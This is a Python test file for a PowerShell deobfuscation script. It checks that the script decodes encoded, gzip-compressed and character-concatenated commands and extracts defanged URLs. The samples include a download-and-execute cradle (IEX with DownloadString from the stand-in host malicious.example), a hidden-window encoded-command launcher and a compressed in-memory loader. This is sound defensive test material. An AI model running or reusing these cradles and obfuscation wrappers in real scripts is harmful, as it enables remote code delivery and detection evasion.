"""Tests build obfuscated samples from inert text at runtime; nothing is executed."""
import base64
import gzip
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "scripts"))
import deobfuscate as d  # noqa: E402

# Inert sample payload text (the host is a reserved .example domain).
PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://malicious.example/a.ps1')"


def enc_cmd(s: str) -> str:
    return base64.b64encode(s.encode("utf-16-le")).decode()


def test_encoded_command_whoami():
    r = d.deobfuscate("powershell.exe -nop -w hidden -enc dwBoAG8AYQBtAGkA")
    assert r["final"] == "whoami"


def test_encoded_command_payload_iocs():
    r = d.deobfuscate(f"powershell -NoP -NonI -W Hidden -EncodedCommand {enc_cmd(PAYLOAD)}")
    assert "hxxp://malicious[.]example/a[.]ps1" in r["iocs"]["urls"]


def test_gzip_layer():
    blob = base64.b64encode(gzip.compress(PAYLOAD.encode())).decode()
    outer = ("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + blob + "'));"
             "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
    r = d.deobfuscate(outer)
    assert "DownloadString" in r["final"]


def test_char_array_and_concat():
    r = d.deobfuscate("& ([char]73+[char]69+[char]88) ('Down'+'loadString')")
    assert "'IEX'" in r["final"] and "DownloadString" in r["final"]
